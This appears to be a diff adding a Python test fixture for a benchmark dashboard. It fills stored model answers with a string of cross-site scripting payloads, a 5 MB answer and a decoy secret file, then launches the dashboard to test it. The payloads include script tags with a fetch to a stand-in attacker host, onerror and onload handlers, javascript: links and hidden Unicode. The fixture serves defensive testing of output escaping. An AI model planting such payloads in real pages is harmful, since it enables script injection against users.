@@ -1,0 +1,92 @@
+"""A run whose one model wrote texts that want to be more than text, on a grey image; and a dashboard before it."""
+
+from __future__ import annotations
+
+import os
+import signal
+import socket
+import subprocess
+import time
+import urllib.request
+from collections.abc import Iterator
+from contextlib import contextmanager
+from pathlib import Path
+
+from PIL import Image
+
+from spinebench.benchmarks.images import ImageStore
+from spinebench.records import ImageRef, JournalEntry, Outcome
+from spinebench.store import RunFolder, Workspace
+from spinebench.store.ingest import ingest
+from tests.exams import ROOT, command
+from tests.stored_runs import answer, diagnosis, key, scored, spec
+
+HOSTILE = (
+    "<script>window.hacked = 1; fetch('http://evil.invalid/s')</script>"
+    "<img src='http://evil.invalid/i.png' onerror='window.hacked = 2'> ![x](http://evil.invalid/m.png) "
+    "[click](javascript:window.hacked=3) <a href='javascript:window.hacked=4'>go</a> "
+    "</div></mark><style>* { display: none }</style> \u202eevil\u202c \x1b[31mred\x1b[0m zero\u200bwidth "
+    ":material/home: $x^2$ <svg onload='window.hacked = 5'></svg> My final option: [A]"
+)
+LONG = "<b>word</b> " * 420_000
+"""5 MB."""
+
+
+def hostile_workspace(folder: Path) -> Workspace:
+    """Two items with an image of grey, one answered with `HOSTILE`, the other with 5 MB."""
+    images = folder / "images"
+    images.mkdir(parents=True)
+    Image.linear_gradient("L").convert("RGB").save(images / "film.png")
+    (folder / "secret.txt").write_text("nobody's business", "utf-8")
+    ref = ImageRef(path="film.png")
+    workspace = Workspace(folder / "workspace")
+    sent = ImageStore(images, cache_dir=workspace.cache_dir / "images").prepare(ref).image
+    items = [
+        diagnosis(name).model_copy(update={"images": (ref,), "question": "Which? " + HOSTILE})
+        for name in ("d1", "d2")
+    ]
+    run_spec = spec(n_items=2).model_copy(
+        update={"plan": {"image_root": str(images), "benchmark": "b.jsonl"}}
+    )
+    run: RunFolder = workspace.create_run(run_spec, items)
+    entries = []
+    for item, text in zip(items, (HOSTILE, LONG), strict=True):
+        of = key(item.id)
+        said = answer(of, text=text).model_copy(
+            update={"images": (sent,), "reasoning": HOSTILE, "provider_model": HOSTILE}
+        )
+        entries.append(JournalEntry(answer=said, scored=scored(of, item, item.gold, Outcome.CORRECT_DISEASE)))
+    run.journal.append(entries)
+    run.journal.close()
+    ingest(workspace)
+    return workspace
+
+
+@contextmanager
+def serving(workspace: Workspace) -> Iterator[str]:
+    """The address of `spinebench dashboard` on a workspace."""
+    with socket.socket() as probe:
+        probe.bind(("127.0.0.1", 0))
+        port = probe.getsockname()[1]
+    process = subprocess.Popen(
+        command("dashboard", "--workspace", workspace.path, "--port", str(port), "--no-browser"),
+        env={**os.environ, "PYTHONPATH": str(ROOT)},
+        stdout=subprocess.DEVNULL,
+        stderr=subprocess.DEVNULL,
+        start_new_session=True,
+    )
+    address = f"http://127.0.0.1:{port}"
+    try:
+        deadline = time.monotonic() + 60
+        while True:
+            try:
+                urllib.request.urlopen(f"{address}/_stcore/health", timeout=5).close()
+                break
+            except OSError:
+                assert process.poll() is None, "the dashboard ended"
+                assert time.monotonic() < deadline, "the dashboard did not come up"
+                time.sleep(0.1)
+        yield address
+    finally:
+        os.killpg(process.pid, signal.SIGTERM)
+        process.wait(timeout=60)
